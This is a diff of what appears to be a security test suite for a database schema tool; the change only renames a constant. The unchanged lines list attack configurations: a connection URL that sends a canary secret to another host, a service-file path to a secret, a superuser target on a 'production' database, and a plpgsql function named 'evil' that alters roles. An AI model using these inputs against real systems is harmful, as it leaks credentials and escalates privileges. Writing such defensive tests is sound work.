@@ -7,7 +7,7 @@ import os
 from attack import Attack, Run, script
 
 TABLE = 'table { name: "t" column { name: "id" type: "integer" } }\n'
-SPELT = 'table { name: "t" column { name: "id" type: "int" default: "1+1" } }\n'  # needs a scratch database
+HAND_WRITTEN = 'table { name: "t" column { name: "id" type: "int" default: "1+1" } }\n'  # needs a scratch database
 SCRIPT = script("CREATE TABLE public.x (a int);")
 NO_URL = {"DATABASE_URL": None}
 
@@ -43,7 +43,7 @@ ATTACKS = [
     configured("url-service", "url names a service file outside", 'url: "service=x servicefile=@SECRET@"\n',
                [Run("check", environment=NO_URL)]),
     configured("scratch-url", "scratch_url in the repository: a variable to another host",
-               'scratch_url: "postgresql://u:${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n', models=SPELT),
+               'scratch_url: "postgresql://u:${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n', models=HAND_WRITTEN),
     configured("scratch-url-victim", "scratch_url in the repository names a server in use, as its superuser",
                'scratch_url: "host=@SOCKET@ port=5432 user=postgres dbname=production"\n',
                models='function { name: "evil" returns: "integer" language: "plpgsql" body: "BEGIN ALTER ROLE '
